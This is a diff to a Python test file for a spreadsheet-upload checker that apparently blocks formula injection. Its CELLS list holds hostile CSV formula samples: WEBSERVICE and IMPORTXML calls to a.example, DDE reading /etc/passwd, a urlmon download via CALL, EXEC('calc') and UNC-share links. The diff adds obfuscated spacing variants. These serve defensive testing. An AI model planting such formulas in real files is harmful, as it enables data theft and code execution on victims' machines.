@@ -44,13 +44,15 @@ CELLS = [
     '=IMAGE("http://a.example/x.png")', '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")', '=IMPORTDATA("http://a")',
     '=ГИПЕРССЫЛКА("http://a.example";"Отчёт")', '=DDE("soffice";"/etc/passwd";"x")', '=RTD("x";"";"y")',
     '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a","c",0,0)', '=EXEC("calc")', '=-REGISTER.ID("a","b")',
-    "='\\\\host\\share\\[a.xlsx]Лист1'!A1", "='http://a.example/[a.xlsx]S'!A1", "='file:///etc/passwd'#$S.A1!",
+    '=HYPERLINK ("http://a.example")', '=1+webservice   ("http://a.example")', '=STOCKHISTORY("x")', '=_xlfn.IMAGE (A1)',
+    "=\\\\host\\share\\[a.xlsx]S!A1", "='\\\\host\\share\\[a.xlsx]Лист1'!A1", "='http://a.example/[a.xlsx]S'!A1", "='file:///etc/passwd'#$S.A1!",
 ]  # fmt: skip
 #: Cells that only look alike.
 PLAIN = [
     "-5", "-1 234,5", "+7 701 123 45 67", "+7(701)123-45-67", "-", "--", "- пункт первый", "- Да | Нет!", "@minfin_kz",
     "=SUM(A1:A3)", "=A1+B1", "-2+3", "a|'b'!c", "cmd|' /C calc'!A0", "см. HYPERLINK(x)", "https://adilet.zan.kz/!",
     "- см. https://adilet.zan.kz/rus", "=1=1", "====", "+-+", "- журнал (REGISTER) ведётся",
+    "- REGISTERS (2)", "=RECALL(1)", "- см. (https://adilet.zan.kz)",
 ]  # fmt: skip
 TABLES: list[tuple[str, Callable[[str], str]]] = [
     ("alone", lambda cell: f"{cell}\n"),
@@ -108,8 +110,12 @@ def test_text_that_only_begins_alike_is_taken(text: str) -> None:
 
 
 def test_a_long_harmless_table_is_looked_through_in_time() -> None:
-    rows = "МКС;-5;+7 701 000 00 00;https://adilet.zan.kz/rus\n" * 200_000
-    assert fault_of("csv", rows.encode()) == ""
+    """Ten million signs: a fraction of a second, of the five that the reading of a file may take."""
+    for row in (
+        "МКС;-5;+7 701 000 00 00;https://adilet.zan.kz/rus\n",
+        "МКС (проект) от 12 (двенадцатого) мая;(1)\n",
+    ):
+        assert fault_of("csv", (row * (10_000_000 // len(row))).encode()) == ""
 
 
 # --- Office and OpenDocument -------------------------------------------------------------------------------------------
